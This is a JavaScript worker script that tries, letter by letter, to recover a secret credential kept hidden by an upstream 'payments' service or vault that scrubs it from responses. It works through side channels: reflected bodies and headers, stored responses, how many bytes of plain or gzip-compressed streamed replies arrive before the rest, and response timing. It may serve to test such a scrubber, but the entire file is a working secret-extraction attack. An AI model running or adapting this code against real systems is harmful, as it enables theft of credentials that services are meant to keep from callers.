// A function that tries to learn its own credential from what comes back of its calls, letter by letter.
//
// A request's JSON body says how: { way, path, base, known, alphabet, length }. `path` is a path of the capability
// `payments` whose upstream returns the text that it is sent: for `pieces` and `gzip` as it comes and in the content
// encoding that it comes in, for `stored` to a later GET, for which the function also uses a plain `fetch` of `base`
// and `path`. `known` is how the credential begins. The answer is { recovered, calls, seen }, with what was seen of
// each guess in the last step. Each step sends `known` and one more letter, for every letter, and compares what it
// observes: the letter that behaves like no other is taken for the next one. A step in which no letter, or more than
// one, stands out ends the attempt. On a busy machine `time` also takes letters that stand out by chance: only those
// that are right count.

// More than a vault holds back, so that what comes before the rest depends on how much that is.
const FILLER = ".".repeat(16384);
// An answer of which so long nothing comes waits for the rest of the text that it returns.
const QUIET_MS = 20;
// Rounds of a timed guess. The faster half counts: what a busy machine adds is left out.
const TIMED_ROUNDS = 6;
// Repetitions of a timed guess in one body: what a scrubber spends on one must add up.
const TIMED_REPEATS = 1024;

let calls;

const encode = (text) => new TextEncoder().encode(text);

function call(env, path, init) {
  calls++;
  return env.payments.fetch(path, { method: "POST", ...init });
}

// What is seen of each guess in a text that holds one in each of its last lines.
function lastLines(text, guesses) {
  const lines = text.split("\n").slice(-guesses.length);
  return guesses.map((guess, i) => without(lines[i] ?? "", guess));
}

// What is left of an answer when the guess is taken out: the same for all guesses that are left alone.
const without = (text, guess) => text.replaceAll(guess, "GUESS");

const quiet = () => new Promise((go) => setTimeout(go, QUIET_MS));

const median = (numbers) => numbers.sort((a, b) => a - b)[numbers.length >> 1];

// A gzip member of its own: where it ends is where a decoder has all of it.
async function gzip(text) {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

// How much of an answer comes while its text ends in the guess, and how much later.
async function sizes({ env, path }, guesses, headers, pack) {
  const seen = [];
  for (const guess of guesses) {
    const [first, rest] = [await pack(FILLER + guess), await pack(FILLER)];
    let sendRest;
    const body = new ReadableStream({
      async start(controller) {
        controller.enqueue(first);
        await new Promise((go) => sendRest = go);
        controller.enqueue(rest);
        controller.close();
      },
    });
    const reader = (await call(env, path, { headers, body, duplex: "half" })).body.getReader();
    const counts = [0, 0];
    let next = reader.read();
    for (let piece; (piece = await Promise.race([next, quiet()])) && !piece.done; next = reader.read()) {
      counts[0] += piece.value.length;
    }
    sendRest();
    for (let piece; !(piece = await next).done; next = reader.read()) {
      counts[1] += piece.value.length;
    }
    seen.push(counts.join());
  }
  return seen;
}

// Way -> what the function sees of each guess, in order.
const ways = {
  async body({ env, path }, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const answer = await call(env, path, { body: guess });
      seen.push(`${answer.status} ${without(await answer.text(), guess)}`);
    }
    return seen;
  },
  async many({ env, path }, guesses) {
    const answer = await call(env, path, { body: guesses.join("\n") });
    return lastLines(await answer.text(), guesses);
  },
  async stored({ env, path, base }, guesses) {
    await (await call(env, path, { body: guesses.join("\n") })).text();
    const slot = await call(env, path, { method: "GET" });
    const ofSlot = lastLines(await slot.text(), guesses);
    const plain = lastLines(await (await fetch(base + path)).text(), guesses);
    return guesses.map((_, i) => `${ofSlot[i]} ${plain[i]}`);
  },
  async header({ env, path }, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const headers = { origin: guess, "x-request-id": guess };
      const answer = await call(env, path, { headers });
      // The second in which an answer was made says nothing of the guess.
      const fields = JSON.stringify([...answer.headers].filter(([name]) => name !== "date"));
      seen.push(without(`${answer.status} ${fields} ${await answer.text()}`, guess));
    }
    return seen;
  },
  pieces: (target, guesses) => sizes(target, guesses, {}, encode),
  gzip: (target, guesses) => sizes(target, guesses, { "content-encoding": "gzip" }, gzip),
  async time({ env, path }, guesses) {
    const rounds = guesses.map(() => []);
    // All guesses take turns: a machine that grows busy slows all of them.
    for (let round = 0; round < TIMED_ROUNDS; round++) {
      for (const [i, guess] of guesses.entries()) {
        const body = `${guess} `.repeat(TIMED_REPEATS);
        // The clock moves on between turns.
        await new Promise((go) => setTimeout(go, 0));
        const began = performance.now();
        await (await call(env, path, { body })).arrayBuffer();
        rounds[i].push(performance.now() - began);
      }
    }
    const times = rounds.map((of) => {
      const faster = of.sort((a, b) => a - b).slice(0, TIMED_ROUNDS / 2);
      return faster.reduce((sum, time) => sum + time, 0);
    });
    // Stands out: further from the median than twice what all but the furthest are.
    const middle = median([...times]);
    const distances = times.map((time) => Math.abs(time - middle));
    const usual = distances.toSorted((a, b) => a - b).at(-2);
    return distances.map((distance) => (distance > 2 * usual ? "slow" : "usual"));
  },
};

// The guess that behaves like no other while all others behave alike.
function outlier(guesses, seen) {
  const alone = guesses.filter((_, i) => seen.indexOf(seen[i]) === seen.lastIndexOf(seen[i]));
  return alone.length === 1 && new Set(seen).size === 2 ? alone[0] : undefined;
}

export default {
  async fetch(request, env) {
    const { way, path, base, known, alphabet, length } = await request.json();
    const target = { env, path, base };
    calls = 0;
    let recovered = known;
    let seen;
    while (recovered.length < length) {
      const guesses = [...alphabet].map((letter) => recovered + letter);
      seen = await ways[way](target, guesses);
      const next = outlier(guesses, seen);
      if (next === undefined) break;
      recovered = next;
    }
    return Response.json({ recovered, calls, seen });
  },
};
